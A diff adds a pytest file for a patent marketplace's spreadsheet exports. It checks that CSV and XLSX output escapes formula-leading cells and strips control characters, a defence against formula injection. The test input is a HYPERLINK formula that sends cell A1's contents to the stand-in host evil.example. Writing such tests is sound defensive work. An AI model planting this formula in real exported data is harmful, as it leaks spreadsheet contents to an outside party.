@@ -1,0 +1,58 @@
+"""Every export neutralises formula-leading cells and never fails on control characters (issue 11)."""
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date
+from decimal import Decimal
+
+import pytest
+from openpyxl import load_workbook
+
+from marketplace.core.spreadsheets import safe_cell, to_csv, to_xlsx
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+
+
+@pytest.mark.parametrize("value, expected", [
+    (HYPERLINK, "'" + HYPERLINK), ("+86 851 1234", "'+86 851 1234"), ("-2+3", "'-2+3"), ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("锂电池=正极", "锂电池=正极"), ("ZR2025\x07520000001", "ZR2025520000001"),
+    (Decimal("-5.00"), Decimal("-5.00")), (-3, -3), (None, None), (True, True), (date(2025, 1, 2), date(2025, 1, 2)),
+])
+def test_safe_cell(value, expected):
+    assert safe_cell(value) == expected
+
+
+def test_csv_cells_are_text_and_amounts_keep_two_places():
+    rows = list(csv.reader(io.StringIO(to_csv(["名称", "金额"], [[HYPERLINK, Decimal("12.5")]]).decode("utf-8-sig"))))
+    assert rows == [["名称", "金额"], ["'" + HYPERLINK, "12.50"]]
+
+
+def test_xlsx_stores_formulas_as_text_and_survives_control_characters():
+    data = to_xlsx([("交易\x00明细", ["名称", "登记号", "金额"], [[HYPERLINK, "ZR\x1b2025", Decimal("120000.00")]])])
+    sheet = load_workbook(io.BytesIO(data)).active
+    title, number, amount = [cell for cell in sheet[2]]
+    assert title.data_type == "s" and title.value == "'" + HYPERLINK
+    assert number.value == "ZR2025" and amount.value == 120000 and amount.number_format == "#,##0.00"
+    assert sheet.title == "交易明细"
+
+
+def test_console_exports_neutralise_a_formula_title(client, token_for, agency, university, company, app):
+    """Issue 11: a deal titled =HYPERLINK(...) became a live formula in the XLSX export."""
+    from marketplace.core import transaction
+    from marketplace.deals import services as deals
+    from tests import factories
+    with app.test_request_context():
+        patent = factories.make_granted_patent(university)
+        deals.record_deal(agency.load(), {
+            "mode": "transfer", "seller_id": university.organisation_id, "buyer_id": company.organisation_id,
+            "patent_ids": [patent.id], "amount": "800000.00", "status": "signed", "title": HYPERLINK})
+        transaction.commit()
+    headers = token_for(agency)
+    book = load_workbook(io.BytesIO(client.get("/api/v1/exports/deals.xlsx", headers=headers).data))
+    titles = [row[4] for row in book.active.iter_rows(min_row=2, values_only=True)]
+    assert "'" + HYPERLINK in titles and HYPERLINK not in titles
+    exported = client.get("/api/v1/exports/deals.csv", headers=headers)
+    assert exported.headers["Content-Type"] == "text/csv; charset=utf-8"
+    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"))))
+    assert rows[1][4] == "'" + HYPERLINK
